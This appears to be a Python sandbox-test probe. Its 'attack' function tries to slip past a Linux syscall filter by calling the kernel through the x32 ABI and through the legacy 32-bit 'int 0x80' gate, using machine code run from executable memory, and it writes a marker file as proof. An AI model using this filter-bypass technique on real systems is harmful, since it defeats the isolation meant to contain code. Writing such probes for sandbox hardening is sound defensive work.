"""Calls the kernel by the old door for 32 bits, whose numbers mean something else, and by those of x32.

Aim: touch
"""

import ctypes
import mmap
import platform

CODE = bytes.fromhex("53 89 f8 89 f3 89 d1 ba a4 01 00 00 cd 80 5b c3".replace(" ", ""))  # eax, ebx, ecx; int 0x80


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(0x40000000 | 41, 2, 1, 0)
    if platform.machine() != "x86_64":
        return
    low = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(ctypes.c_void_p(0x10000000), 4096, low, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
    ctypes.memmove(at, CODE, len(CODE))
    ctypes.memmove(at + 2048, f"{MARKS}/was_here\0".encode(), len(MARKS) + 10)
    made = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_int, ctypes.c_int, ctypes.c_int)(at)
    made(5, at + 2048, 0o102)  # open, to write and create
    print("LEARNED", made(20, 0, 0))
